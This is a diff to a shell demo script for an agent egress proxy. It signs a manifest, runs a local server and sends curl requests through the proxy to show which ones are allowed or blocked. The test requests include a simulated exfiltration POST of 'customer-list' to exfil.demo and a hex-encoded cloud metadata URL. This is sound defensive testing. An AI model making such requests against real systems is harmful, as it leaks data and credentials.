@@ -65,4 +65,52 @@ if cordon manifest verify "$demo/tampered.signed.json" --no-record; then
   echo "quick start: a tampered manifest was accepted" >&2
   exit 1
 fi
-printf '\nQuick start done: the tampered manifest and the edited audit log were both caught. Demo files are in %s\n' "$demo"
+# The egress proxy: a local "reports" server, a manifest granting it by name, and real curl
+# requests through the proxy. Names are answered by --resolve, so nothing leaves this machine.
+port=$(node -e 'const s=require("net").createServer();s.listen(0,"127.0.0.1",()=>{console.log(s.address().port);s.close()})')
+node -e 'require("http").createServer((q,r)=>r.end("Q3 revenue: 4.2M\n")).listen(+process.argv[1],"127.0.0.1")' "$port" &
+server=$!
+trap 'kill "$server" 2>/dev/null || true; [ -n "${proxy:-}" ] && kill "$proxy" 2>/dev/null || true' EXIT
+until_after=$(node -e 'console.log(new Date(Date.now()+30*86400e3).toISOString().replace(/\.\d+Z$/,"Z"))')
+cat > "$demo/web-reports.json" <<JSON
+{
+  "apiVersion": "cordon.dev/v1",
+  "agentName": "web-reports",
+  "version": "1.0.0",
+  "role": "reporting",
+  "dataClassification": "internal",
+  "owner": "finance-it@example.com",
+  "description": "Reads the internal reports service over HTTP",
+  "notAfter": "$until_after",
+  "readPaths": [],
+  "writePaths": [],
+  "networkScopes": ["http://reports.demo:$port", "http://127.0.0.1:$port", "http://intranet.demo:8080"],
+  "apiScopes": [],
+  "commandsAllowed": [],
+  "requiresApproval": []
+}
+JSON
+step manifest sign "$demo/web-reports.json" --key "$CORDON_HOME/policy/keys/security-team.key"
+printf '\n\033[1m$ cordon proxy --manifest web-reports.signed.json --listen 127.0.0.1:0 --resolve reports.demo=127.0.0.1 --resolve intranet.demo=10.20.30.40 &\033[0m\n'
+node dist/cli/main.js proxy --manifest "$demo/web-reports.signed.json" --listen 127.0.0.1:0 \
+  --resolve reports.demo=127.0.0.1 --resolve intranet.demo=10.20.30.40 >"$demo/proxy.out" 2>"$demo/proxy.err" &
+proxy=$!
+for _ in $(seq 1 100); do grep -q 'listening on' "$demo/proxy.out" 2>/dev/null && break; sleep 0.1; done
+cat "$demo/proxy.out"
+url=$(grep -o 'http://127\.0\.0\.1:[0-9]*' "$demo/proxy.out" | head -1)
+through() {
+  printf '\n\033[1m$ curl -x %s %s\033[0m\n' "$url" "$*"
+  curl -sS -i --noproxy '' -x "$url" "$@" | tr -d '\r' | grep -v '^Date:\|^Keep-Alive:\|^Connection:' || true
+}
+through "http://reports.demo:$port/q3"
+through -X POST --data 'customer-list' http://exfil.demo/upload
+through http://0xa9fea9fe/latest/meta-data/
+through http://intranet.demo:8080/admin
+kill -TERM "$proxy"
+wait "$proxy" || true
+proxy=
+cat "$demo/proxy.err"
+step audit tail -n 5 --where class_uid=4002
+step audit verify
+
+printf '\nQuick start done: the tampered manifest and the edited audit log were both caught, and the proxy let through only what the manifest grants. Demo files are in %s\n' "$demo"
